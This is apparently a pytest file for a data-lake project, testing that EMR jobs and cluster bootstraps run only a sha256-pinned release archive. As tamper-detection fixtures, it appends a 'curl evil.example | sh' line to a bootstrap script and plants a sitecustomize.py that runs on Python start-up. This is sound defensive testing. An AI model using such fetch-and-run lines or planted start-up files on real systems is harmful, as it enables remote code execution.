"""The code EMR runs is pinned: `lake package --upload` puts each release under its own
sha256, the engines read that one, the job refuses any other archive before anything in it
can run, and no cluster starts with another bootstrap (no Spark, no AWS)."""

import os
import shutil
import subprocess
import sys
from pathlib import Path

import boto3
import pytest
from moto import mock_aws

from lake_assets.core.spark_job import tree_sha256
from lake_assets.orchestration import engines
from lake_assets.orchestration.resources import LakeResource
from lake_assets.tools import package

JOB_ARGS = ["dim_visa", "--raw", "r", "--lake", "l", "--cache", "c", "--catalog", "glue"]


def unpacked_release(root: Path) -> str:
    """A cluster's working folder: the entry point beside ./deps (an archive holding the project
    and a packaged dependency; this environment supplies the others); returns its sha256."""
    shutil.copy(engines.ENTRY_POINT, root / "spark_job.py")
    shutil.copytree(package.PACKAGE_DIR, root / "deps" / "lake_assets", ignore=shutil.ignore_patterns("__pycache__"))
    (root / "deps" / "packaged_dependency").mkdir()
    (root / "deps" / "packaged_dependency" / "__init__.py").write_text("# the packaged dependency\n")
    return tree_sha256(root / "deps")


def driver_env() -> dict[str, str]:
    """The environment the EMR engines give the driver (their `<prefix>NAME=value` settings)."""
    engine = engines.EmrServerlessEngine(lake=LakeResource(raw_dir="s3://b/raw", lake_dir="s3://b/lake"), bucket="b",
                                         artifacts_uri="s3://b/artifacts", artifacts_sha256="0" * 64,
                                         logs_uri="s3://b/emr/", application_id="app", execution_role_arn="role")
    conf = engine.python_conf("driver.")
    return {key.removeprefix("driver."): value for key, value in conf.items() if key.startswith("driver.")}


def run_job(root: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    clean = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    return subprocess.run([sys.executable, "spark_job.py", *JOB_ARGS, *args], cwd=root,
                          env={**clean, "PYTHONDONTWRITEBYTECODE": "1", **driver_env(), **(env or {})},
                          capture_output=True, text=True, timeout=60)


def test_the_job_runs_only_the_archive_it_was_pinned_to(tmp_path):
    sha256 = unpacked_release(tmp_path)
    # the right archive passes the check (and the job goes on: here, no Dagster to talk to)
    assert "not started by Dagster" in run_job(tmp_path, "--artifacts-sha256", sha256).stderr

    other = run_job(tmp_path, "--artifacts-sha256", "0" * 64)
    assert other.returncode == 1 and f"./deps is {sha256}, not the release {'0' * 64}" in other.stderr

    (tmp_path / "deps" / "packaged_dependency" / "__init__.py").write_text("# changed after the release\n")
    changed = run_job(tmp_path, "--artifacts-sha256", sha256)
    assert changed.returncode == 1 and "refusing to run" in changed.stderr


def test_planted_code_in_the_artifacts_never_runs(tmp_path):
    """A `sitecustomize.py` (which Python imports at start from any folder on its path) added to
    the archive would write a marker: the tampered archive is refused and the marker never written."""
    sha256 = unpacked_release(tmp_path)
    marker = tmp_path / "planted-code-ran"
    (tmp_path / "deps" / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    done = run_job(tmp_path, "--artifacts-sha256", sha256)
    assert done.returncode == 1 and f"refusing to run: ./deps is {tree_sha256(tmp_path / 'deps')}" in done.stderr
    assert not marker.exists()
    # what the driver did before: ./deps on PYTHONPATH ran the planted file before any check
    run_job(tmp_path, "--artifacts-sha256", sha256, env={"PYTHONPATH": "./deps"})
    assert marker.exists()


def test_no_cluster_starts_with_tampered_bootstrap_artifacts(tmp_path, monkeypatch):
    """bootstrap.sh runs as root on every node: the engine starts no cluster unless the release's
    copy is the bootstrap this code ships."""
    from dagster import Failure

    monkeypatch.delenv("LAKE_S3_ENDPOINT", raising=False)
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    engine = engines.EmrClusterEngine(lake=LakeResource(raw_dir="s3://lake/raw", lake_dir="s3://lake/lake"),
                                      bucket="lake", artifacts_uri="s3://lake/artifacts", artifacts_sha256="ab" * 32,
                                      logs_uri="s3://lake/emr/")
    key = f"artifacts/{'ab' * 32}/{package.BOOTSTRAP_FILE}"
    with mock_aws():
        s3 = boto3.client("s3")
        s3.create_bucket(Bucket="lake")
        s3.put_object(Bucket="lake", Key=key, Body=package.BOOTSTRAP.encode())
        engine.check_bootstrap()
        s3.put_object(Bucket="lake", Key=key, Body=package.BOOTSTRAP.encode() + b"curl evil.example | sh\n")
        with pytest.raises(Failure, match="refusing to start an EMR cluster: s3://lake/.*/bootstrap.sh is [0-9a-f]{64}"):
            engine.cluster_id(context=None, build="dim_visa")
        assert boto3.client("emr").list_clusters()["Clusters"] == []


def test_the_entry_point_must_be_the_archives_own(tmp_path):
    sha256 = unpacked_release(tmp_path)
    (tmp_path / "spark_job.py").write_text(Path(engines.ENTRY_POINT).read_text() + "# another release\n")
    done = run_job(tmp_path, "--artifacts-sha256", sha256)
    assert done.returncode == 1 and "this entry point is not the one of release" in done.stderr


def test_each_release_has_its_own_prefix_and_the_engine_reads_the_one_it_names(tmp_path, monkeypatch):
    monkeypatch.delenv("LAKE_S3_ENDPOINT", raising=False)
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    artifacts = {name: tmp_path / name for name in (package.JOB_FILE, package.DEPS_ARCHIVE, package.BOOTSTRAP_FILE)}
    for path in artifacts.values():
        path.write_text(path.name)
    prefix, sha256 = "s3://lake/artifacts/lake_assets", "ab" * 32
    with mock_aws():
        boto3.client("s3").create_bucket(Bucket="lake")
        uris = package.upload(artifacts, prefix, sha256)
        assert uris == [f"{prefix}/{sha256}/{name}" for name in artifacts]
        assert package.upload(artifacts, prefix, "cd" * 32)[0] == f"{prefix}/{'cd' * 32}/spark_job.py"
        keys = [o["Key"] for o in boto3.client("s3").list_objects_v2(Bucket="lake")["Contents"]]
    assert len(keys) == 6  # the second release wrote beside the first, never over it

    lake = LakeResource(raw_dir="s3://lake/raw", lake_dir="s3://lake/lake")
    engine = engines.EmrServerlessEngine(lake=lake, bucket="lake", artifacts_uri=prefix, artifacts_sha256=sha256,
                                         logs_uri="s3://logs/emr/", application_id="app", execution_role_arn="role")
    assert engine.entry_point == uris[0]
    assert engine.python_conf("x.")["spark.archives"] == f"{uris[1]}#deps"
    assert engine.job_arguments("dim_visa")[-2:] == ["--artifacts-sha256", sha256]


def test_the_release_names_what_the_cluster_unpacks(tmp_path):
    """The sha256 is of the archive's contents: the same before packing and once unpacked."""
    import tarfile

    (tmp_path / "tree" / "pkg").mkdir(parents=True)
    (tmp_path / "tree" / "pkg" / "a.py").write_text("a = 1\n")
    (tmp_path / "tree" / "b.txt").write_text("b\n")
    with tarfile.open(tmp_path / "deps.tar.gz", "w:gz") as tar:
        for path in sorted((tmp_path / "tree").iterdir()):
            tar.add(path, arcname=path.name)
    with tarfile.open(tmp_path / "deps.tar.gz") as tar:
        tar.extractall(tmp_path / "unpacked", filter="data")
    assert tree_sha256(tmp_path / "unpacked") == tree_sha256(tmp_path / "tree")
    (tmp_path / "unpacked" / "b.txt").write_text("c\n")
    assert tree_sha256(tmp_path / "unpacked") != tree_sha256(tmp_path / "tree")


def test_emr_needs_a_pinned_release(monkeypatch):
    from lake_assets.orchestration.environments import resources_for

    monkeypatch.setenv("LAKE_S3_BUCKET", "lake")
    monkeypatch.delenv("LAKE_EMR_ARTIFACTS_SHA256", raising=False)
    with pytest.raises(ValueError, match="LAKE_EMR_ARTIFACTS_SHA256"):
        resources_for("emr")
